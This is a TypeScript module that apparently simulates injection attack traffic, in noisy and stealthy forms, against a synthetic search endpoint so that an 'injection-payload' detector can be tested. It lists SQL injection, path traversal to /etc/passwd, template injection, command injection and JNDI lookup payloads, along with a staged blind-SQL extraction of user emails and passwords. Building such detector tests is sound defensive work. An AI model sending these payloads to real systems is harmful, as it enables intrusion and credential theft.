import { visitor } from '../actors/outsiders.ts';
import { MINUTE_MS } from '../core/calendar.ts';
import type { Incident, Play } from '../core/incident.ts';

const TRIES = 120;

/** Well-known forms, before any encoding. */
const PAYLOADS = {
  sql: [
    "lamp' OR '1'='1' -- ",
    "lamp') UNION SELECT email, pass FROM users -- ",
    "1'; WAITFOR DELAY '0:0:4' -- ",
    "lamp' AND pg_sleep(4) IS NULL -- ",
    "x' AND 1=CAST((SELECT version()) AS int) -- ",
  ],
  path: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/hosts', '/proc/self/environ'],
  template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '{{config.items()}}', '#{T(java.lang.Runtime)}'],
  command: ['lamp; id', 'lamp | cat /etc/hosts', '$(whoami)', 'lamp`sleep 4`', '|| ping -c 3 127.0.0.1'],
  lookup: ['${jndi:ldap://PROBE/a}', '${${lower:j}ndi:rmi://PROBE/b}'],
} as const;

const ALL: readonly string[] = Object.values(PAYLOADS).flat();

function loud({ open, roles, start, stage }: Play): void {
  const { search, browse } = roles;
  const session = open(visitor(roles, stage.world.operation(search.operation), roles.stranger(0)), start);
  const { random } = session;
  const probe = `${random.base32(6)}.${roles.foreign.host}`;
  const first = random.int(0, ALL.length - 1);
  for (let index = 0; index < TRIES; index += 1) {
    const payload = (ALL[(first + index) % ALL.length] ?? '').replace('PROBE', probe);
    const text = index % 3 === 2 ? encodeURIComponent(payload) : payload;
    const status = random.pick([400, 400, 400, 500, 500, 200]);
    if (index % 4 === 3) session.call(browse.read, { params: [text], status: random.pick([400, 404, 404, 500]) });
    else session.call(search.operation, { query: { [search.parameter]: text }, status });
    session.think(1400);
  }
}

/** Tests for an error, then for a delay, then takes the table. */
function quiet({ open, roles, start, stage }: Play): void {
  const { search } = roles;
  const operation = stage.world.operation(search.operation);
  const place = {
    ip: roles.stranger(7).ip,
    userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  };
  const session = open(visitor(roles, operation, place), start);
  const ask = (text: string, more: { readonly status: number; readonly responseBytes?: number; readonly millis?: number }): void => {
    session.call(search.operation, { query: { [search.parameter]: text }, ...more });
    session.think(22 * MINUTE_MS);
  };
  ask("lamp' -- ", { status: 200, responseBytes: 44 });
  ask(encodeURIComponent("lamp') AND 1=1 -- "), { status: 400 });
  ask("lamp') AND 2=1 -- ", { status: 200, responseBytes: 44 });
  ask("lamp') AND pg_sleep(6) IS NULL -- ", { status: 500, millis: 6100 });
  ask("lamp') UNION SELECT id, email, pass FROM users -- ", { status: 200, responseBytes: 214_000, millis: 900 });
}

/**
 * Text that a server may take for a command.
 * Loud: all well-known forms, plain and encoded twice, in the search and in paths, within minutes.
 * Quiet: five searches in two hours, by a browser like all others. What gives it away: the text itself, one answer after six seconds
 * with 500, and then one that is fifty times as large as a search.
 */
export const injectionPayloads: Incident = {
  id: 'injection-payloads',
  detectors: ['injection-payload'],
  play: (play) => (play.form === 'loud' ? loud(play) : quiet(play)),
};
